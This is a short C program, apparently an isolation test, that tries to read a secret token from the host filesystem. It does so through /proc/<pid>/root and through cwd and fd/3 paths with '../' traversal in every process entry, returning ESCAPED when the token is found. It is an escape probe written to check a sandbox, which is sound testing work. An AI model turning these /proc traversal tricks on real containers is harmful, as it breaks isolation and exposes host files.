/* SECRET TOKEN: the host's files by the root, working directory or descriptors of any process in /proc. */
#include <dirent.h>
#include "attack.h"

int main(int count, char **words)
{
    static const char *const links[] = { "root", "cwd/../../../../../../../../../..", "fd/3/../../../../../../../.." };
    DIR *proc = opendir("/proc");
    char path[8192];
    int seen = 0;
    if (count != 3 || !proc)
        return BROKEN;
    for (struct dirent *entry; (entry = readdir(proc));)
        for (size_t i = 0; atoi(entry->d_name) > 0 && i < sizeof links / sizeof *links; i++, seen++) {
            snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, links[i], words[1]);
            if (holds(open(path, O_RDONLY), words[2]))
                return ESCAPED;
        }
    return seen ? held("/proc") : BROKEN;
}
